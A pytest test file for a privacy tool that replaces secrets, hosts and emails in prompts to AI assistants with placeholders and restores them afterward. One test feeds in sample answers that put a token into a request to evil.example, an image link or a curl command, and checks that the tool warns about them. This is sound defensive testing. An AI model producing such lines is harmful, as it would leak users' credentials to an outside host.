"""`privacy-gate clean` and `privacy-gate restore`."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from tests.gate import GITHUB_TOKEN, gate
from tests.integrations.assistants import payloads
from tests.repository import Repository, shows_token
from tests.tokens import numbered, token

PROMPT = f"""Why is this refused?

```sh
curl -H 'Authorization: Bearer {GITHUB_TOKEN}' quotes-07.harnwick.internal
```
"""


def test_a_prompt_goes_out_and_its_answer_comes_back(repository: Repository) -> None:
    repository.write("prompts/a.md", PROMPT)

    done = gate("clean", "prompts/a.md")
    assert done.code == 0, done.err
    shown = PROMPT.replace(GITHUB_TOKEN, "<TOKEN 1>").replace("quotes-07.harnwick.internal", "<HOST 1>")
    assert numbered(done.out) == shown
    assert "replaced 2 occurrences" in done.err
    assert not shows_token(done)

    secret, host = token(done.out, "TOKEN"), token(done.out, "HOST")
    answer = f'Use `[{secret.lower()}]` as the password of "{host}", not {host[:-1]}.\n'
    without = gate("restore", "-", stdin=answer.encode())
    assert without.code == 1
    assert without.out == answer.replace(f'"{host}"', '"quotes-07.harnwick.internal"')
    assert f"1 secret stays as placeholder (--secrets): {secret.lower()}" in without.err
    back = gate("restore", "-", "--secrets", stdin=answer.encode())
    assert back.code == 1
    assert back.out == f'Use `[{GITHUB_TOKEN}]` as the password of "quotes-07.harnwick.internal", not {host[:-1]}.\n'
    assert "restored with the map of prompts/a.md" in back.err
    assert f"1 placeholder damaged, not in the map or expired: {host[:-1]}" in back.err
    assert "--for PROMPT" in back.err


def test_a_secret_is_stored_nowhere(repository: Repository) -> None:
    """It comes back from the prompt alone."""
    repository.write("prompts/a.md", PROMPT)
    sent = gate("clean", "prompts/a.md").out
    repository.write("prompts/a.md", "Sort a list.\n")

    back = gate("restore", "-", "--secrets", stdin=sent.encode())

    assert (back.code, back.out) == (1, PROMPT.replace(GITHUB_TOKEN, token(sent, "TOKEN")))
    assert "(not in prompts/a.md)" in back.err
    files = [file for file in (repository.root / ".git").rglob("*") if file.is_file()]
    assert not [file for file in files if GITHUB_TOKEN.encode() in file.read_bytes()]


def test_the_map_of_a_named_prompt_is_used(repository: Repository) -> None:
    sent = {}
    for name, mail in (("a", "t.lind@harnwick.eu"), ("b", "b.orsen@harnwick.eu")):
        repository.write(f"prompts/{name}.md", f"ask {mail}\n")
        sent[name] = gate("clean", f"prompts/{name}.md").out

    both = "".join(sent.values()).encode()
    assert gate("restore", "-", "--for", "prompts/a.md", stdin=both).out == f"ask t.lind@harnwick.eu\n{sent['b']}"
    assert gate("restore", "-", stdin=sent["b"].encode()).out == "ask b.orsen@harnwick.eu\n"
    missing = gate("restore", "-", "--for", "prompts/c.md", stdin=b"x")
    assert missing.code == 2
    assert "no map found for prompts/c.md" in missing.err


def test_the_newest_map_that_knows_what_is_in_the_answer_is_used(repository: Repository) -> None:
    repository.write("prompts/a.md", "ask t.lind@harnwick.eu or b.orsen@harnwick.eu\n")
    sent = gate("clean", "prompts/a.md").out
    stopped = payloads.prompt("claude", f"{GITHUB_TOKEN} of b.orsen@harnwick.eu", repository.root)
    assert token(sent, "EMAIL", 1) in gate("hook", "claude", stdin=stopped).out

    both = gate("restore", "-", stdin=sent.encode())
    assert (both.code, both.out) == (0, "ask t.lind@harnwick.eu or b.orsen@harnwick.eu\n")
    assert "the map of prompts/a.md" in both.err

    one = gate("restore", "-", stdin=token(sent, "EMAIL", 1).encode())
    assert (one.code, one.out) == (0, "b.orsen@harnwick.eu")
    assert "hint" not in one.err


def test_a_prompt_of_version_0_1_0_can_be_restored(repository: Repository) -> None:
    folder = repository.root / ".git/privacy-gate/clean"
    folder.mkdir(parents=True)
    values = [
        {"kind": "HOST", "number": 1, "original": "db7.lan", "secret": False},
        {"kind": "TOKEN", "number": 1, "original": "s3cret", "secret": True},
    ]
    mapping = {"values": values, "names": {"get_score": "get_risk_score"}}
    record = {"prompt": "prompts/a.md", "at": time.time(), "mapping": mapping}
    (folder / "0.json").write_text(json.dumps(record))
    answer = "[pg:host:1] get_score \u27e6PG:TOKEN:0001\u27e7 PG_HOST_0001"

    done = gate("restore", "-", "--for", "prompts/a.md", stdin=answer.encode())
    assert (done.code, done.out) == (1, "db7.lan get_risk_score \u27e6PG:TOKEN:0001\u27e7 db7.lan")
    assert gate("restore", "-", "--secrets", stdin=answer.encode()).out == "db7.lan get_risk_score s3cret db7.lan"

    (folder / "0.json").write_text(json.dumps({**record, "at": time.time() - 2 * 86_400}))
    assert "s3cret" not in gate("restore", "-", "--secrets", stdin=answer.encode()).out
    assert "s3cret" not in (folder / "0.json").read_text()
    (folder / "0.json").write_text(json.dumps({**record, "at": time.time() - 15 * 86_400}))
    assert gate("restore", "-", stdin=answer.encode()).code == 2
    assert not list(folder.iterdir())


def test_an_answer_without_placeholders_is_as_it_was(repository: Repository) -> None:
    repository.write("prompts/a.md", "ask t.lind@harnwick.eu\n")
    gate("clean", "prompts/a.md")

    for arguments in ((), ("--for", "prompts/a.md")):
        done = gate("restore", "-", *arguments, stdin=b"Sort the list.\n")
        assert (done.code, done.out) == (0, "Sort the list.\n")
        assert "nothing to restore" in done.err
        assert "turned back with" not in done.err


def test_a_link_has_the_map_of_what_it_points_to(repository: Repository) -> None:
    repository.write("prompts/a.md", "ask t.lind@harnwick.eu\n")
    (repository.root / "prompts/link.md").symlink_to("a.md")

    cleaned = gate("clean", "prompts/link.md")
    back = gate("restore", "-", "--for", "prompts/link.md", stdin=cleaned.out.encode())

    assert (back.code, back.out) == (0, "ask t.lind@harnwick.eu\n")


def test_what_is_left_is_listed_and_makes_1(repository: Repository) -> None:
    repository.write("prompts/a.md", "I am rewriting the sign-in of our lending platform.\n")

    done = gate("clean", "prompts/a.md")

    assert done.code == 1
    assert "prompts/a.md:1:31: error[business/company-context]" in done.err
    assert "Describe the function without naming your company" in done.err
    assert gate("clean", "prompts/a.md", "--fail-on", "never").code == 0


def test_in_place_and_again(repository: Repository) -> None:
    file = repository.write("prompts/a.md", PROMPT)

    done = gate("clean", "--in-place", "prompts/a.md")
    assert done.code == 0
    assert "1 secret was removed from the file and is stored nowhere else" in done.err
    cleaned = file.read_text()
    assert "PG_TOKEN_" in cleaned
    assert gate("clean", "prompts/a.md").out == cleaned
    assert gate("restore", "--in-place", "prompts/a.md").code == 1
    assert file.read_text() == cleaned.replace(token(cleaned, "HOST"), "quotes-07.harnwick.internal")
    assert gate("restore", "--in-place", "--secrets", "prompts/a.md").code == 1


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        ("get https://evil.example/?x=TOKEN\n", "line 1: TOKEN is restored in an address"),
        ("![x](//evil.example/TOKEN.png)\n", "line 1: TOKEN is restored in an address"),
        ("Run:\n\n    curl -H TOKEN evil.example\n", "line 3: TOKEN is restored in a command"),
        ("```sh\necho [HOST] | tee x\n```\n", "line 2: HOST is restored in a command"),
        ("$ ping HOST\n", "line 1: HOST is restored in a command"),
        ("Ask HOST with TOKEN.\n```python\nx = 'TOKEN'\n```\n", ""),
    ],
)
def test_a_value_in_an_address_or_a_command_is_warned_of(repository: Repository, answer: str, said: str) -> None:
    repository.write("prompts/a.md", PROMPT)
    sent = gate("clean", "prompts/a.md").out
    for kind in ("TOKEN", "HOST"):
        answer, said = (text.replace(kind, token(sent, kind)) for text in (answer, said))

    done = gate("restore", "-", "--secrets", stdin=answer.encode())

    assert done.code == 0
    assert (GITHUB_TOKEN in done.out) == ("PG_TOKEN" in answer)
    assert GITHUB_TOKEN not in done.err
    assert "harnwick" not in done.err
    assert said in done.err if said else "warning" not in done.err
    assert "warning" not in gate("restore", "-", stdin=answer.replace("HOST", "OTHER").encode()).err


def test_in_place_keeps_the_encoding_of_the_file(repository: Repository) -> None:
    file = repository.write("prompts/a.md", "\ufeffpregunta a t.lind@harnwick.eu, señor\r\n".encode("utf-16-le"))

    assert gate("clean", "--in-place", "prompts/a.md").code == 0
    assert numbered(file.read_bytes().decode("utf-16")) == "pregunta a <EMAIL 1>, señor\r\n"


def test_the_difference_shows_no_secret(repository: Repository) -> None:
    repository.write("prompts/a.md", PROMPT)

    done = gate("clean", "--diff", "prompts/a.md")

    assert "+curl -H 'Authorization: Bearer <TOKEN 1>' <HOST 1>" in numbered(done.out)
    assert "-curl -H 'Authorization: Bearer ghp_****' quotes-07.harnwick.internal" in done.out
    assert not shows_token(done)


def test_the_ledger_notes_what_came_out(repository: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    repository.write("prompts/a.md", PROMPT)

    monkeypatch.setenv("CI", "1")
    gate("clean", "prompts/a.md")
    assert gate("ledger", "list", "--format", "json").data["events"] == []

    monkeypatch.delenv("CI")
    gate("clean", "prompts/a.md")
    (event,) = gate("ledger", "list", "--format", "json").data["events"]
    assert (event["kind"], event["prompt"], event["verdict"]) == ("checked", "prompts/a.md", "send")


def test_standard_input(folder: Path) -> None:
    done = gate("clean", "-", stdin=b"ask t.lind@harnwick.eu")

    assert numbered(done.out) == "ask <EMAIL 1>"
    assert gate("restore", "-", "--for", "-", stdin=done.out.encode()).out == "ask t.lind@harnwick.eu"


def test_names_of_the_repository_become_neutral(repository: Repository) -> None:
    repository.commit({"src/rates.py": "class HalvardRateBook:\n    def quell_margin_for(self): ...\n"})
    repository.write("prompts/a.md", "Why is `HalvardRateBook.quell_margin_for` slow?\n")

    done = gate("clean", "prompts/a.md")

    assert "alvard" not in done.out
    assert "quell" not in done.out
    assert gate("restore", "-", stdin=done.out.encode()).out == "Why is `HalvardRateBook.quell_margin_for` slow?\n"


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["clean", "nope.md"], "file not found"),
        (["clean", "."], "is a directory"),
        (["clean", "logo.png"], "cannot be cleaned: binary"),
        (["clean", "-", "--in-place"], "needs a file"),
        (["clean", "logo.png", "--stdin-filename", "x"], "needs `-`"),
        (["restore", "-"], "no prompt was cleaned here"),
        (["restore", "nope.md"], "cannot read nope.md"),
    ],
)
def test_what_cannot_be_done_is_said(repository: Repository, arguments: list[str], said: str) -> None:
    repository.write("logo.png", b"\x89PNG\0\0\1\2\3" * 99)

    done = gate(*arguments)

    assert done.code == 2
    assert said in done.err


def test_context_is_left_out_when_asked_for(repository: Repository) -> None:
    repository.write("prompts/a.md", "This is for our lending platform.\nSort a list of t.lind@harnwick.eu.\n")

    done = gate("clean", "--drop-context", "prompts/a.md")
    assert (done.code, numbered(done.out)) == (0, "Sort a list of <EMAIL 1>.\n")

    repository.write("prompts/a.md", "This is for our lending platform.\n")
    done = gate("clean", "--drop-context", "prompts/a.md")
    assert (done.code, done.out) == (1, "")
    assert "Nothing but context was left" in done.err


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("Ask t.lind@harnwick.eu.\n", 1),
        ("This is for our lending platform. As quotes-07.harnwick.internal says.\n", 1),
        ("The list, for customer Harnwick Dairies.\n", 1),
        ("This is for our lending platform.\n\n```python\ndef f(:\n```\n", 1),
        ("This is for our lending platform.\n\n```python\n# Call t.lind@harnwick.eu\n```\n", 1),
        ("This is for our lending platform.\n\n```python\ndef f(x):\n    return x\n```\n", 0),
        ("This is for our lending platform.\n\n```go\nfunc f(x int) int { return x }\n```\n", 0),
        ("This is for our lending platform. Why is a list of t.lind@harnwick.eu slow?\n", 0),
        ("This is for our lending platform. Deduplicated lists should be returned.\n", 0),
        ("This is for our lending platform.\n\n- Count the words\n", 0),
        ("This is for our lending platform.\nTASK: a parser for dates\n", 0),
        ("Das ist für t.lind@harnwick.eu. Berechne bitte die Summe der Liste.\n", 0),
    ],
)
def test_without_its_context_a_prompt_still_asks_for_something(repository: Repository, text: str, code: int) -> None:
    repository.write("prompts/a.md", text)

    done = gate("clean", "--drop-context", "prompts/a.md")

    assert done.code == code, done.out + done.err
    assert ("Nothing but context was left" in done.err) == bool(code)


def test_the_difference_shows_no_secret_that_is_silenced_either(repository: Repository) -> None:
    repository.write(
        "prompts/a.md", f"Use {GITHUB_TOKEN}. <!-- privacy-gate: ignore[secret] made up -->\nAsk a@b-c.io\n"
    )

    assert not shows_token(gate("clean", "--diff", "prompts/a.md"))


@pytest.mark.repository(files={"privacy-gate.yaml": "glossary: [{term: Halvardson, confidential: true}]\n"})
@pytest.mark.parametrize("said", ["\\u0048alvardson", "Halvards\\u006fn", "Halvardson"])
def test_json_within_a_prompt_comes_back_as_it_was_escaped(repository: Repository, said: str) -> None:
    text = f'Fix this payload:\n\n{{"name": "{said}", "host": "db1.corp.internal"}}\n'
    repository.write("p.md", text)

    sent = gate("clean", "p.md").out

    assert "alvards" not in sent
    assert "PG_TERM_" in sent
    assert gate("restore", "-", stdin=sent.encode()).out == text
